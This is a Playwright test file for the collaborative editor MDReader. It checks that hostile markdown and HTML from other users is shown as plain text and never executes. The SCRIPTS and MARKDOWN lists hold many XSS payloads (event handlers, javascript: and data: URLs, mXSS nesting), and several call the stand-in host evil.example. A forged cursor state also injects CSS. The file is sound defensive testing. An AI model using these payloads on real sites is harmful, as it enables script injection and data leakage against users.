import { editor, expectSaved, openDocument, preview, saveState } from './editor';
import { stockClient } from './stockClient';
import { expect, test } from './test';

const SCRIPTS = [
  '<script>alert(1)</script>',
  '<script src="https://evil.example/x.js"></script>',
  '<img src=x onerror=alert(1)>',
  '<img src="https://evil.example/pixel.png">',
  '<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x dur=1s></svg>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="https://evil.example/x.swf"></object>',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<style>@import "https://evil.example/x.css";</style>',
  '<form action="https://evil.example"><input name=q><button>go</button></form>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<a href="javascript:alert(1)">a</a>',
  '<details open ontoggle=alert(1)>x</details>',
  '<video src=x onerror=alert(1) autoplay></video>',
];

const MARKDOWN = [
  '[link](javascript:alert(1))',
  '[link](JaVaScRiPt:alert(1))',
  '[link](java&#10;script:alert(1))',
  '[link](&#x6a;avascript:alert(1))',
  '[link](vbscript:msgbox(1))',
  '[link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '<javascript:alert(1)>',
  '![image](javascript:alert(1))',
  '![image](https://evil.example/pixel.png)',
  '![image" onerror="alert(1)](https://evil.example/a.png)',
  '![image](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)',
  '![image](/api/v1/auth/logout)',
  '[ref]: javascript:alert(1)\n\n[ref]',
  '[titled](https://evil.example "\\" onmouseover=\\"alert(1)")',
  '```html" onmouseover="alert(1)\n<script>alert(1)</script>\n```',
  '| cell |\n|---|\n| <img src=x onerror=alert(1)> |',
];

const TEXT = ['# Hostile', ...SCRIPTS, ...MARKDOWN, '# The end'].join('\n\n');

test('a hostile document is shown as text: nothing runs, nothing is fetched', async ({ seat, api }) => {
  const name = '<img src=x onerror=alert(1)>';
  const mallory = await seat(await api.signUp(name));
  const ana = await seat(await api.signUp('Ana'));
  const workspace = await api.createWorkspace(mallory.person, '<svg onload=alert(1)>');
  await api.addMember(mallory.person, workspace, ana.person, 'editor');
  const title = '"><script>alert(1)</script>';
  const document = await api.createDocument(mallory.person, workspace, title);

  await test.step('it is written live', async () => {
    await openDocument(mallory.page, document);
    await openDocument(ana.page, document);
    await editor(mallory.page).click();
    await mallory.page.keyboard.insertText(TEXT);
    await expectSaved(mallory.page);
  });

  await test.step('the reader sees all of it', async () => {
    await expect(preview(ana.page).getByRole('heading', { name: 'The end' })).toBeVisible();
    await expect(preview(ana.page)).toContainText('<script>alert(1)</script>');
    await expect(ana.page.locator('.mdr-remote-flag')).toHaveText(name);
    await expect(ana.page).toHaveTitle(`${title} – MDReader`);
  });

  await test.step('what it became can do nothing', async () => {
    const rendered = preview(ana.page);
    await expect(
      rendered.locator('script, iframe, object, embed, svg, math, style, form, input, base, meta'),
    ).toHaveCount(0);
    await expect(rendered.locator('img')).toHaveCount(0);
    // Sections are the program's own, and are told how high they may be.
    const dangerous = await rendered
      .locator(':not(.mdr-section)')
      .evaluateAll((elements) =>
        elements.flatMap((element) =>
          [...element.attributes]
            .filter(
              ({ name, value }) =>
                name.startsWith('on') || name === 'style' || /^\s*(?:javascript|vbscript|data):/i.test(value),
            )
            .map(({ name, value }) => `${element.tagName} ${name}=${value}`),
        ),
      );
    expect(dangerous).toEqual([]);
  });

  await test.step('clicking and hovering everything does nothing either', async () => {
    for (const link of await preview(ana.page).getByRole('link').all()) await link.hover();
    const opening = ana.page.waitForEvent('popup', { timeout: 1_000 }).catch(() => null);
    for (const link of await preview(ana.page).locator('a[href="#"], a:not([href])').all()) await link.click();
    await (await opening)?.close();
  });

  await test.step('it stays harmless in lists, menus and dialogs', async () => {
    await ana.page.goto(`/w/${workspace}`);
    await expect(ana.page.getByRole('main').getByRole('link', { name: title })).toBeVisible();
    await ana.page.getByRole('button', { name: 'People' }).click();
    await expect(ana.page.getByRole('dialog')).toContainText(name);
  });
});

test('a cursor state made by hand can’t style the page', async ({ seat, api, server }) => {
  const ana = await seat(await api.signUp('Ana'));
  const document = await api.createDocument(
    ana.person,
    await api.createWorkspace(ana.person, 'Mine'),
    'Colours',
    'text',
  );
  await openDocument(ana.page, document);
  await expect(saveState(ana.page)).toHaveText('Saved');
  const client = stockClient(server.url, ana.person.token, document);
  await client.synced;
  client.provider.awareness.setLocalState({
    user: {
      id: 'x',
      name: 'Forged',
      color: 'red;background:url(https://evil.example/x)',
      colorLight: '}*{display:none}',
    },
    cursor: { anchor: { tname: 'content', assoc: 0 }, head: { tname: 'content', assoc: 0 } },
  });
  await expect(ana.page.locator('.mdr-remote-flag')).toHaveText('Ana');
  const caret = ana.page.locator('.mdr-remote-caret');
  await expect(caret).toHaveClass(/mdr-colour-\d/);
  expect(await caret.getAttribute('style')).toMatch(/^left: [\d.]+px; top: [\d.]+px; height: [\d.]+px;$/);
  client.close();
});

test('what strangers write into comments, suggestions, requests, links and invitations is shown as text', async ({
  seat,
  stranger,
  api,
}) => {
  test.setTimeout(180_000);
  const name = '<img src=x onerror=alert(1)>';
  const ana = await seat(await api.signUp('Ana'));
  const mallory = await api.signUp(name);
  const eve = await api.signUp('"><svg onload=alert(1)>');
  const workspace = await api.createWorkspace(ana.person, 'Mine');
  await api.addMember(ana.person, workspace, mallory, 'commenter');
  const title = '<script>alert(1)</script>';
  const document = await api.createDocument(ana.person, workspace, title, 'One word.\n');
  const message = SCRIPTS.join(' ').slice(0, 500);
  const everything = [...SCRIPTS, ...MARKDOWN].join('\n\n');
  await api.suggest(mallory, document, [{ find: 'word', replace: everything }], message);
  await api.askAccess(eve, document, message);
  await api.comment(mallory, document, { start: 0, end: 3, quote: 'One' }, everything);
  await api.letGuestsIn(ana.person, document, ['<iframe srcdoc=x>'], '<b onclick=alert(1)>');
  const invite = await api.inviteToDocument(ana.person, document, 'cleo@example.org', 'viewer');

  await openDocument(ana.page, document);
  for (const mode of ['Live', 'Edit', 'Both'] as const) {
    await ana.page.getByRole('button', { name: mode, exact: true }).click();
    await expect(ana.page.locator('ins.mdr-suggested-in').first()).toContainText('onerror=alert(1)');
  }
  await ana.page.getByRole('button', { name: '1 open suggestion' }).click();
  const card = ana.page.getByRole('article');
  await expect(card).toContainText(name);
  await expect(card).toContainText('<script>alert(1)</script>');
  await expect(
    ana.page.locator('ins, del, article').locator('script, iframe, img, svg[onload], style, form'),
  ).toHaveCount(0);
  await ana.page.getByRole('button', { name: '1 open comment' }).click();
  const comment = ana.page.getByRole('complementary', { name: 'Comments' }).getByRole('article');
  await expect(comment).toContainText('<script>alert(1)</script>');
  await expect(comment.locator('script, iframe, object, img, svg[onload], math, style, form, input')).toHaveCount(0);
  await expect(comment.locator('a[href^="javascript" i], a[href^="data" i], a[href^="vbscript" i]')).toHaveCount(0);

  await ana.page.getByRole('button', { name: 'Share', exact: true }).click();
  const dialog = ana.page.getByRole('dialog');
  await expect(dialog).toContainText('"><svg onload=alert(1)>');
  await expect(dialog).toContainText('<iframe srcdoc=x>');
  await expect(dialog).toContainText('<b onclick=alert(1)>');
  await expect(dialog.getByRole('blockquote')).toContainText('<script>alert(1)</script>');
  await ana.page.goto(`/w/${workspace}/inbox`);
  await expect(ana.page.getByRole('main')).toContainText(`${name} suggested changes to ${title}`);
  await ana.page.goto(`/w/${workspace}/audit`);
  await expect(ana.page.getByRole('main')).toContainText('"><svg onload=alert(1)>');
  const cleo = await stranger();
  await cleo.goto(invite);
  await expect(cleo.getByRole('heading', { name: title })).toBeVisible();
});
